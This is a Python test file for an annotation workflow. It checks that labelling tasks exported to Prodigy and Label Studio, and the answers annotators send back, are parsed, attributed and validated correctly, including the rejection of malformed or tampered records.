def test_a_prodigy_task_has_their_shape(database: LabelDatabase) -> None:
    QueueStore(database).add_suggestions([suggestion()])
    row = prodigy_rows(database)[0]
    assert [option["id"] for option in row["options"]] == [str(level) for level in Level]
    assert (row["accept"], row["answer"], row["_view_id"]) == (["none"], "accept", "choice")
    assert row["meta"]["headings"] == "Ferries > Berths > north"
    assert [row["text"][it["start"] : it["end"]] for it in row["spans"]] == ["work with"]


def suggestion() -> Suggestion:
    it = entry().annotation
    return Suggestion(
        **{"sha256": SHA, "unit_hash": it.unit_hash, "occurrence": 1, "model": "b" * 64},
        **{"name": "level-3", "judgement": it.judgement, "cues": ((8, 17),)},
        probabilities=(0.1, 0.1, 0.5, 0.1, 0.1, 0.1),
    )


def test_answers_changed_in_prodigy_are_corrections(database: LabelDatabase) -> None:
    rows = prodigy_rows(database)
    # What db-out adds, and what annotators do.
    for row in rows:
        row |= {"_input_hash": -5, "_task_hash": 7, "_timestamp": 1795348800}
    rows[3] |= {"accept": ["lead"], "_annotator_id": "ferries-ann", "note": "chairs"}
    rows[4] |= {"accept": ["none"], "_annotator_id": "ferries-ann"}
    rows[5] |= {"answer": "ignore", "accept": ["none"]}
    rows[2] |= {"_annotator_id": "ferries-ann"}
    made = prodigy_back(database, rows, people={"ferries-ann": "ann"})
    assert told(made) == []
    assert (made.corrected, made.confirmed, made.unchanged) == ({"ann": 2}, {"ann": 1}, 2)
    chairs, none = (it for it in made.entries if it.annotation.level in (Level.LEAD, Level.NONE))
    assert (chairs.annotation.note, chairs.annotation.judgement.departments) == ("chairs", ("DFT",))
    assert none.annotation.judgement == Judgement(level=Level.NONE)
    assert chairs.time == "2026-11-22T12:00:00Z"
    database.append(made.entries)
    assert prodigy_back(database, rows, people={"ferries-ann": "ann"}).already == 3


@pytest.mark.parametrize(
    ("change", "what"),
    [
        ({"accept": ["lead", "none"]}, "line 1, accept: not one level"),
        ({"accept": ["certainly"]}, "line 1, level: 'certainly' is none of"),
        ({"answer": "yes"}, "line 1, answer: 'yes' is no answer of Prodigy"),
        ({"text": "Another."}, "line 1, text: the text was changed"),
        ({"collabnlp": {"id": 3}}, "line 1, collabnlp: not as it was exported"),
        ({"accept": ["lead"], "_annotator_id": "x-2026-11-22_10-11-12"}, "line 1: something was"),
    ],
)
def test_wrong_tasks_of_prodigy_are_named(
    database: LabelDatabase, change: dict[str, Any], what: str
) -> None:
    rows = prodigy_rows(database)
    rows[0] |= change
    (said,) = told(prodigy_back(database, rows))
    assert said.startswith(what)


def test_a_record_that_was_tampered_with_is_refused(database: LabelDatabase) -> None:
    rows = prodigy_rows(database)
    rows[3]["collabnlp"]["entry"]["annotation"]["reader"] = "somebody"
    (said,) = told(prodigy_back(database, rows))
    assert said == "line 4, id: the record that the file carries was changed"


# -- Label Studio


def studio_rows(database: LabelDatabase) -> list[dict[str, Any]]:
    tasks = label_studio.tasks(export_lines(database, suggested=True))
    return [json.loads(json.dumps(task)) for task in tasks]


def studio_back(database: LabelDatabase, rows: list[Any], **given: Any) -> Plan:
    returned, _ = label_studio.returned_tasks(rows)
    return back(database, returned, **given)


def test_a_task_of_label_studio_has_their_shape(database: LabelDatabase) -> None:
    QueueStore(database).add_suggestions([suggestion()])
    rows = studio_rows(database)
    assert [len(row["annotations"]) for row in rows] == [2, 1, 1, 1, 1]
    (prediction,) = rows[0]["predictions"]
    assert (prediction["model_version"], prediction["score"]) == ("level-3", 0.5)
    result = {it["from_name"]: it for it in rows[0]["annotations"][1]["result"]}
    assert result["level"]["value"] == {"choices": ["lead"]}
    assert result["departments"]["value"] == {"taxonomy": [["DFT"]]}
    assert {it["to_name"] for it in result.values()} == {"text"}
    # Predictions never come back, whatever they say.
    rows[0]["predictions"][0]["result"][0]["value"] = {"choices": ["explore"]}
    made = studio_back(database, rows)
    assert (told(made), made.unchanged, made.entries) == ([], 6, [])


def as_studio_gives(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """With what Label Studio adds to everything: ids, users, times."""
    for number, row in enumerate(rows, 1):
        row |= {"id": number, "project": 3, "drafts": [], "meta": {}}
        for annotation in row["annotations"]:
            annotation |= {"id": number * 10, "completed_by": 1, "task": number}
            annotation |= {"created_at": "2026-11-21T08:00:00.123456Z", "result_count": 1}
            annotation |= {"updated_at": "2026-11-22T10:00:00.987654+01:00", "lead_time": 4.25}
    return rows


def chosen(annotation: dict[str, Any], name: str, **value: Any) -> None:
    result = next((it for it in annotation["result"] if it["from_name"] == name), None)
    if result is None:
        result = {"id": "Xy_12-z", "from_name": name, "to_name": "text", "type": "choices"}
        annotation["result"].append(result)
    result["value"] = value


def test_answers_changed_in_label_studio_are_corrections(database: LabelDatabase) -> None:
    rows = as_studio_gives(studio_rows(database))
    assert told(studio_back(database, rows)) == []
    one = rows[2]["annotations"][0]
    chosen(one, "level", choices=["lead"])
    chosen(one, "departments", taxonomy=[["HMT"], ["DFE"]])
    chosen(one, "partners", choices=["business", "devolved"])
    chosen(one, "sure", choices=["unsure"])
    chosen(one, "note", text=["first line", "second"])
    one["updated_by"] = 7
    fresh = {"result": [], "was_cancelled": False, "completed_by": {"id": 9, "email": "b@x.org"}}
    chosen(fresh, "level", choices=["none"])
    rows[1]["annotations"].append(fresh)
    rows[4]["annotations"].append({"was_cancelled": True, "result": [], "completed_by": 9})
    said = told(studio_back(database, rows))
    assert said == [
        "task 3, annotation 1: something was changed: say by whom, with --reader (or --person)"
    ]
    made = studio_back(database, rows, people={"7": "ann"})
    assert told(made) == []
    assert (made.corrected, made.added) == ({"ann": 1}, {"b@x.org": 1})
    change = next(it for it in made.entries if it.annotation.reader == "ann")
    assert change.annotation.judgement == Judgement(
        level=Level.LEAD,
        partners=(Partner.DEVOLVED, Partner.BUSINESS),
        departments=("DFE", "HMT"),
        dept_basis=Basis.INFERRED,
        actor_tier=ActorTier.NATIONAL,
    )
    assert (change.annotation.sure, change.annotation.note) == (False, "first line\nsecond")
    assert (change.time, change.seconds) == ("2026-11-22T09:00:00Z", 4.25)
    # Two people may not be brought in under one name.
    said = told(studio_back(database, rows, reader="ann"))
    assert said == [
        "task 2, annotation 2: answers of several people (7, b@x.org): name each by --person"
    ]


@pytest.mark.parametrize(
    "rows",
    [
        [{"text": "flat", "level": "lead"}],
        ["task"],
        [{"data": {"collabnlp": {"unit": {"document": 3}}}}],
        [{"data": {"text": "x"}, "annotations": [{"result": [{"from_name": "level"}]}]}],
    ],
)
def test_wrong_tasks_of_label_studio_are_named(database: LabelDatabase, rows: list[Any]) -> None:
    assert len(told(studio_back(database, rows))) == 1


def test_the_labelling_configuration_has_every_label() -> None:
    from lxml import etree

    root = etree.fromstring(label_studio.labelling_config().encode())
    values = {
        tag.get("name"): [choice.get("value") for choice in tag.iter("Choice")]
        for tag in root
        if tag.get("name")
    }
    assert values["level"] == [str(it) for it in Level]
    assert values["partners"] == [str(it) for it in Partner]
    assert values["dept_basis"] == [str(it) for it in Basis]
    assert values["actor_tier"] == [str(it) for it in ActorTier]
    register = load_register().entries.values()
    assert values["departments"] == sorted(
        it.id for it in register if it.type is EntryType.DEPARTMENT
    )
    assert set(values) == {*FIELDS, "text"}


def test_exports_carry_every_field(database: LabelDatabase) -> None:
    line: ExportLine = export_lines(database)[0]
    assert set(FIELDS) <= set(columns(resolved=False))
    assert line.title == "=Ferries"
